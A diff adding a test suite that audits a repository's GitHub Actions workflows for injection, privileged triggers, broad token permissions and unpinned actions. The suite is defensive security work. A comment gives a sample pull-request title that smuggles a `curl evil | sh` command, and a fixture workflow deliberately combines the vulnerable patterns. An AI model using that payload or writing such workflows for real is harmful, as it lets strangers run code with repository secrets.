@@ -134,3 +134,119 @@ describe('the checks workflow', () => {
     expect(workflow.concurrency['cancel-in-progress']).toBe("${{ github.event_name == 'pull_request' }}");
   });
 });
+
+/**
+ * Issue 39, item 6 (review): every workflow, read as an attacker who can open a pull request (a fork's included) or
+ * write an issue, a comment, a branch name or a commit message. Each rule is also run on a workflow that breaks it,
+ * so a rule that reads nothing cannot pass.
+ */
+describe('every workflow, against a pull request or an issue written to attack it', () => {
+  type AnyJob = { permissions?: unknown; steps?: Step[]; uses?: string };
+  type AnyWorkflow = { on: unknown; permissions?: unknown; jobs: Record<string, AnyJob> };
+  const workflows = workflowFiles.map((file) => [file, parse(readFileSync(file, 'utf8')) as AnyWorkflow] as const);
+
+  /** The events a workflow runs on, whichever of YAML's three forms `on` takes (a name, a list, a map). */
+  const triggers = (on: unknown): string[] => (typeof on === 'string' ? [on] : Array.isArray(on) ? on.map(String) : Object.keys((on ?? {}) as object));
+
+  /**
+   * Triggers that run with the base repository's secrets and a write token while reading a fork's code or its
+   * pull request: pull_request_target and workflow_run (a workflow_run started by a fork's pull_request run).
+   */
+  const PRIVILEGED = ['pull_request_target', 'workflow_run'];
+  const privileged = (workflow: AnyWorkflow) => triggers(workflow.on).filter((event) => PRIVILEGED.includes(event));
+
+  /**
+   * Expressions interpolated into a script: GitHub pastes their value into the shell text before it runs, so a pull
+   * request titled `"; curl evil | sh; #` runs. Any `${{ }}` in `run:` (or an actions/github-script `script:`) is
+   * refused, not only the contexts known to carry attacker text: a value reaches a script through `env:`, where the
+   * shell reads it as data ("$TITLE").
+   */
+  const interpolated = (workflow: AnyWorkflow) =>
+    Object.entries(workflow.jobs).flatMap(([job, { steps = [] }]) =>
+      steps.flatMap((step, i) => [step.run, step.with?.script].filter((text): text is string => typeof text === 'string' && /\$\{\{/.test(text)).map(() => `${job}.steps[${i}]`)),
+    );
+
+  /** The contexts a stranger writes; never in a script, whatever the rule above allows. */
+  const ATTACKER_TEXT =
+    /github\.(head_ref|event\.(pull_request\.(title|body|head\.(ref|label|repo\.(default_branch|description|homepage|name)))|issue\.(title|body)|comment\.body|review\.body|review_comment\.body|pages\b[^}]*\.page_name|commits\b[^}]*\.(message|author\.(email|name))|head_commit\.(message|author\.(email|name))|workflow_run\.(head_branch|head_commit\.message|pull_requests\b[^}]*\.head\.ref)|discussion\.(title|body)))/;
+
+  /** Token scopes a workflow or job asks for: 'read' or 'none' only; 'write-all', 'read-all' and any write refused. */
+  const GRANTS_MORE_THAN_READ = (permissions: unknown): string[] =>
+    typeof permissions === 'string'
+      ? [permissions]
+      : Object.entries((permissions ?? {}) as Record<string, string>)
+          .filter(([, access]) => access !== 'read' && access !== 'none')
+          .map(([scope, access]) => `${scope}: ${access}`);
+
+  /** Every action a workflow uses, steps' and reusable workflows' alike; local ones (./) are the repository's own code. */
+  const actions = (workflow: AnyWorkflow) => Object.values(workflow.jobs).flatMap((job) => [job.uses, ...(job.steps ?? []).map((step) => step.uses)].filter((uses): uses is string => typeof uses === 'string'));
+  const unpinned = (workflow: AnyWorkflow) => actions(workflow).filter((uses) => !uses.startsWith('./') && !/^[\w.-]+\/[\w./-]+@[0-9a-f]{40}$/.test(uses));
+
+  const ATTACKED: AnyWorkflow = parse(
+    [
+      'on:',
+      '  pull_request_target:',
+      '  workflow_run: { workflows: [Checks], types: [completed] }',
+      'permissions: write-all',
+      'jobs:',
+      '  greet:',
+      '    runs-on: ubuntu-latest',
+      '    permissions: { contents: write, pull-requests: read }',
+      '    steps:',
+      '      - uses: actions/checkout@v4',
+      '      - uses: someone/action@main',
+      '      - run: echo "${{ github.event.pull_request.title }}" on ${{ github.head_ref }}',
+      '      - uses: actions/github-script@60a0d83039c74a4aee543508d2ffcb1c3799cdea',
+      '        with: { script: "console.log(`${{ github.event.comment.body }}`)" }',
+      '      - env: { TITLE: "${{ github.event.issue.title }}" }',
+      '        run: echo "$TITLE"',
+      '',
+    ].join('\n'),
+  ) as AnyWorkflow;
+
+  test('the rules find each attack in a workflow written to break them', () => {
+    expect(privileged(ATTACKED)).toEqual(['pull_request_target', 'workflow_run']);
+    expect(triggers('pull_request_target')).toEqual(['pull_request_target']);
+    expect(triggers(['push', 'workflow_run'])).toEqual(['push', 'workflow_run']);
+    expect(interpolated(ATTACKED)).toEqual(['greet.steps[2]', 'greet.steps[3]']);
+    expect(GRANTS_MORE_THAN_READ(ATTACKED.permissions)).toEqual(['write-all']);
+    expect(GRANTS_MORE_THAN_READ(ATTACKED.jobs.greet!.permissions)).toEqual(['contents: write']);
+    expect(unpinned(ATTACKED)).toEqual(['actions/checkout@v4', 'someone/action@main']);
+    for (const text of ['${{ github.event.pull_request.title }}', '${{ github.head_ref }}', '${{ github.event.issue.body }}', '${{ github.event.comment.body }}', '${{ github.event.head_commit.message }}', '${{ github.event.commits[0].message }}', '${{ github.event.pull_request.head.ref }}'])
+      expect(text, text).toMatch(ATTACKER_TEXT);
+    expect('${{ github.event.pull_request.number }}').not.toMatch(ATTACKER_TEXT);
+  });
+
+  test.each(workflows)('%s runs on no pull_request_target or workflow_run (the privileged triggers)', (_file, workflow) => {
+    expect(triggers(workflow.on).length).toBeGreaterThan(0);
+    expect(privileged(workflow)).toEqual([]);
+  });
+
+  test.each(workflows)('%s puts no expression into a script (run: or script:): values reach the shell through env', (_file, workflow) => {
+    expect(interpolated(workflow)).toEqual([]);
+  });
+
+  test.each(workflows)('%s reads no attacker-written context (titles, bodies, branch names, commit messages) at all', (file, workflow) => {
+    // Not even through env: none of these workflows needs one, and a `with:`, an `if:` or a name pastes it into actions and logs.
+    const text = readFileSync(file, 'utf8');
+    const outsideEnv = text.split('\n').filter((line) => ATTACKER_TEXT.test(line));
+    expect(outsideEnv).toEqual([]);
+    expect(Object.keys(workflow.jobs).length).toBeGreaterThan(0);
+  });
+
+  test.each(workflows)('%s declares its token\'s permissions, read-only (contents: read), and no job asks for more', (_file, workflow) => {
+    // Declared at the top, so no job runs with the repository's default token (which may be read-write).
+    expect(workflow.permissions).toEqual({ contents: 'read' });
+    for (const [job, { permissions }] of Object.entries(workflow.jobs)) expect(GRANTS_MORE_THAN_READ(permissions), job).toEqual([]);
+  });
+
+  test.each(workflows)('%s pins every third-party action and reusable workflow by a full commit SHA', (_file, workflow) => {
+    expect(actions(workflow).length).toBeGreaterThan(0);
+    expect(unpinned(workflow)).toEqual([]);
+  });
+
+  test.each(workflows)('%s checks out without leaving the token in the git config for later steps', (_file, workflow) => {
+    const checkouts = Object.values(workflow.jobs).flatMap((job) => (job.steps ?? []).filter((step) => step.uses?.startsWith('actions/checkout@')));
+    for (const checkout of checkouts) expect(checkout.with?.['persist-credentials']).toBe(false);
+  });
+});
